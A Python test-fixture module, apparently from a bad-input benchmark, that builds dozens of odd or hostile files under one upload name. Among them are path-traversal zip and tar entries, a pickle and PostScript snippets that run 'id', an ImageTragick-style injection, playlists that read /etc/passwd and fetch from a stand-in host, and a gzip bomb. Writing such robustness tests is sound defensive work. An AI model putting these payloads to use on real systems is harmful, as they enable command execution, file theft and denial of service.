"""Files of every other kind, under the name of one that a job takes."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
import zlib

import numpy as np

from benchmarks.bad_inputs.case import Case

_NOISE = np.random.default_rng(5).integers(0, 256, 6000).astype(np.uint8).tobytes()


def zipped(files: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip file of these."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, how)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../owned"), io.BytesIO(b""))
    return out.getvalue()


CONTENTS: dict[str, bytes] = {
    "nothing": b"",
    "one byte": b"x",
    "a line break": b"\r\n",
    "zeros": bytes(5000),
    "ones": b"\xff" * 5000,
    "noise": _NOISE,
    "text": b"Dear Sir or Madam, please find my score attached.",
    "UTF-16 text": "Guten Tag".encode("utf-16"),
    "HTML": b"<!doctype html><title>score</title><script src=http://198.51.100.7/x.js></script>",
    "JSON": json.dumps({"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}).encode(),
    "XML": b'<?xml version="1.0"?><note><to>you</to></note>',
    "a zip": zipped({"../../owned": b"x"}),
    "a zip of a zip": zipped({"a.zip": zipped({"b.zip": zipped({"c": b"x"})})}),
    "a Word file": zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
    "gzip": gzip.compress(b"score" * 100, mtime=0),
    "a gzip bomb": gzip.compress(bytes(30_000_000), mtime=0),
    "tar": _tar(),
    "zlib": zlib.compress(b"x" * 1000),
    "bzip2": b"BZh91AY&SY" + _NOISE[:200],
    "xz": b"\xfd7zXZ\x00\x00\x04" + _NOISE[:200],
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + _NOISE[:200],
    "rar": b"Rar!\x1a\x07\x01\x00" + _NOISE[:200],
    "an ELF program": b"\x7fELF\x02\x01\x01" + _NOISE[:500],
    "a Windows program": b"MZ\x90\x00" + _NOISE[:500],
    "a shell script": b"#!/bin/sh\ntouch owned\n",
    "a Python pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
    "a numpy array": b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }" + _NOISE[:80],
    "safetensors": (80).to_bytes(8, "little") + b'{"a":{"dtype":"F32","shape":[999999,999999],"data_offsets":[0,4]}}' + bytes(20),
    "SQLite": b"SQLite format 3\0" + _NOISE[:400],
    "PostScript": b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n",
    "RTF": b"{\\rtf1\\ansi{\\object\\objdata 0105}}",
    "a TrueType font": b"\x00\x01\x00\x00\x00\x0c\x00\x80" + _NOISE[:300],
    "a WOFF font": b"wOFF\x00\x01\x00\x00" + _NOISE[:300],
    "a playlist": b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\nhttp://198.51.100.7/a.ts\n",
    "a list of ffconcat": b"ffconcat version 1.0\nfile /etc/passwd\nfile http://198.51.100.7/a\n",
    "an SDP": b"v=0\no=- 0 0 IN IP4 198.51.100.7\ns=x\nc=IN IP4 198.51.100.7\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
    "ASX": b'<asx version="3.0"><entry><ref href="http://198.51.100.7/a"/></entry></asx>',
    "MVG": b"push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://198.51.100.7/x\"|id\")'\npop graphic-context\n",
    "a torrent": b"d8:announce26:http://198.51.100.7/announcee",
    "an LFS pointer": b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n",
}  # fmt: skip


def rubbish(file: str) -> list[Case]:
    """Each under the name ``file``."""
    return [Case.of(f"{kind} called {file}", file, data) for kind, data in CONTENTS.items()]
